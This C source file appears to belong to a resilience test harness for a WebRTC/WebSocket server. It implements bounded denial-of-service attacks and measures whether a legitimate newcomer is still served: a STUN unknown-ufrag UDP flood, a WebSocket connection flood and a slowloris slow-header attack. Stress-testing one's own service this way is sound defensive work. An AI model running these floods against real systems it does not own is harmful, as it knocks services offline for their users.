/* The attacks that need no joining: unknown-ufrag STUN at the media port,
 * and connection floods and slowloris at the HTTP port. Each is bounded in
 * count and time, and measures whether a newcomer from another address is
 * still served meanwhile (probes.c). */
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "hostile.h"
#include "core/random.h"
#include "webrtc/stun.h"

#define PROBE_INTERVAL_MS 1000
#define PROBE_HTTP_TIMEOUT_MS 2000
#define PROBE_JOIN_TIMEOUT_MS 3000

static int64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void sleep_ms(int ms)
{
    struct timespec ts = { ms / 1000, (long)(ms % 1000) * 1000000 };
    nanosleep(&ts, NULL);
}

typedef struct probe_tally {
    int total, ok, worst_ms;
} probe_tally;

/* A page load and a join from the other address; a failure counts as the timeout. */
static void probe_once(probe_tally *t)
{
    int get = probe_http_get(g_opts.probe_ip, g_opts.host, g_opts.http_port, PROBE_HTTP_TIMEOUT_MS);
    int join = probe_ws_join(g_opts.probe_ip, g_opts.host, g_opts.http_port, PROBE_JOIN_TIMEOUT_MS);
    t->total++;
    t->ok += get >= 0 && join >= 0;
    int worst = get < 0 ? PROBE_HTTP_TIMEOUT_MS : get;
    if (join < 0 || join > worst)
        worst = join < 0 ? PROBE_JOIN_TIMEOUT_MS : join;
    if (worst > t->worst_ms)
        t->worst_ms = worst;
}

static void report_probes(FILE *out, const probe_tally *t)
{
    fprintf(out, " probes=%d probes_ok=%d probe_worst_ms=%d", t->total, t->ok, t->worst_ms);
}

int flood_unknown_ufrag(FILE *out)
{
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in dst = { .sin_family = AF_INET, .sin_port = htons((uint16_t)g_opts.media_port) };
    if (fd < 0 || inet_pton(AF_INET, g_opts.host, &dst.sin_addr) != 1)
        return -1;
    int64_t start = now_ms(), end = start + (int64_t)(g_opts.seconds * 1000);
    uint64_t sent = 0, want = 0;
    uint64_t limit = g_opts.count > 0 ? (uint64_t)g_opts.count : UINT64_MAX;
    while (now_ms() < end && sent < limit) {
        /* Paced per millisecond: the rate is an average, not one burst. */
        want = (uint64_t)((double)(now_ms() - start) * g_opts.rate / 1000.0);
        while (sent < want && sent < limit) {
            char username[32], pwd[25];
            uint8_t txid[STUN_TXID_SIZE], buf[256];
            random_ice_chars(username, 8);
            username[8] = ':';
            random_ice_chars(username + 9, 4);
            username[13] = '\0';
            random_ice_chars(pwd, 24);
            pwd[24] = '\0';
            random_bytes(txid, sizeof txid);
            size_t n = stun_build_binding_request(buf, sizeof buf, txid, username, 0x6E7FFFFF, true,
                                                  random_u32(), false, pwd, strlen(pwd));
            if (n)
                (void)sendto(fd, buf, n, 0, (struct sockaddr *)&dst, sizeof dst);
            sent++;
        }
        sleep_ms(1);
    }
    close(fd);
    fprintf(out, " sent=%llu seconds=%.2f", (unsigned long long)sent, (double)(now_ms() - start) / 1000);
    return 0;
}

/* Opens up to n connections from the attacking address, each starting
 * (and with end_request, finishing) its request. Returns how many connected. */
static int open_many(int *fds, int n, const char *request)
{
    int opened = 0;
    for (int i = 0; i < n; i++) {
        fds[i] = probe_connect(NULL, g_opts.host, g_opts.http_port, 200);
        if (fds[i] < 0)
            continue;
        opened++;
        (void)send(fds[i], request, strlen(request), MSG_NOSIGNAL | MSG_DONTWAIT);
    }
    return opened;
}

/* How many of the connections the server has closed (or reset) by now. */
static int closed_by_server(const int *fds, int n)
{
    int closed = 0;
    for (int i = 0; i < n; i++) {
        if (fds[i] < 0)
            continue;
        char buf[4096];
        ssize_t r;
        while ((r = recv(fds[i], buf, sizeof buf, MSG_DONTWAIT)) > 0)
            ;
        if (r == 0 || (r < 0 && errno != EAGAIN && errno != EWOULDBLOCK))
            closed++;
    }
    return closed;
}

static void close_all(int *fds, int n)
{
    for (int i = 0; i < n; i++)
        if (fds[i] >= 0)
            close(fds[i]);
}

/* Connections that are sent one more header line every round, and never
 * the blank line that would end the request. */
typedef struct slow_headers { int *fds; int n; int line; } slow_headers;

static void send_one_more_header(slow_headers *slow)
{
    char more[32];
    int len = snprintf(more, sizeof more, "X-Slow-%d: 1\r\n", slow->line++);
    for (int i = 0; i < slow->n; i++)
        if (slow->fds[i] >= 0)
            (void)send(slow->fds[i], more, (size_t)len, MSG_NOSIGNAL | MSG_DONTWAIT);
}

/* Probes the server every PROBE_INTERVAL_MS until end, feeding slow (if
 * any) one more header line each round. */
static void probe_until(int64_t end, probe_tally *t, slow_headers *slow)
{
    while (now_ms() < end) {
        int64_t next = now_ms() + PROBE_INTERVAL_MS;
        if (slow)
            send_one_more_header(slow);
        probe_once(t);
        while (now_ms() < next && now_ms() < end)
            sleep_ms(20);
    }
}

/* How many of the connections the server closed; then closes and frees all. */
static int finish(int *fds, int n)
{
    int closed = closed_by_server(fds, n);
    close_all(fds, n);
    free(fds);
    return closed;
}

int flood_connections(FILE *out)
{
    int n = g_opts.count > 0 ? g_opts.count : 1000;
    int *fds = calloc((size_t)n, sizeof *fds);
    if (!fds)
        return -1;
    char request[512];
    snprintf(request, sizeof request,
             "GET /ws HTTP/1.1\r\nHost: %s:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
             "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
             "Sec-WebSocket-Protocol: stoa\r\n\r\n", g_opts.host, g_opts.http_port);
    int64_t start = now_ms();
    int opened = open_many(fds, n, request);
    int64_t opened_at = now_ms(), end = opened_at + (int64_t)(g_opts.seconds * 1000);
    probe_tally t = { 0 };
    probe_until(end, &t, NULL);
    int closed = finish(fds, n);
    fprintf(out, " connections=%d opened=%d closed_by_server=%d open_ms=%lld", n, opened, closed,
            (long long)(opened_at - start));
    report_probes(out, &t);
    return 0;
}

int flood_slow_http(FILE *out)
{
    int n = g_opts.count > 0 ? g_opts.count : 200;
    int *fds = calloc((size_t)n, sizeof *fds);
    if (!fds)
        return -1;
    char request[256];
    snprintf(request, sizeof request, "GET / HTTP/1.1\r\nHost: %s:%d\r\n", g_opts.host, g_opts.http_port);
    int opened = open_many(fds, n, request);
    int64_t end = now_ms() + (int64_t)(g_opts.seconds * 1000);
    probe_tally t = { 0 };
    slow_headers slow = { fds, n, 0 };
    probe_until(end, &t, &slow);
    int closed = finish(fds, n);
    fprintf(out, " connections=%d opened=%d closed_by_server=%d", n, opened, closed);
    report_probes(out, &t);
    return 0;
}
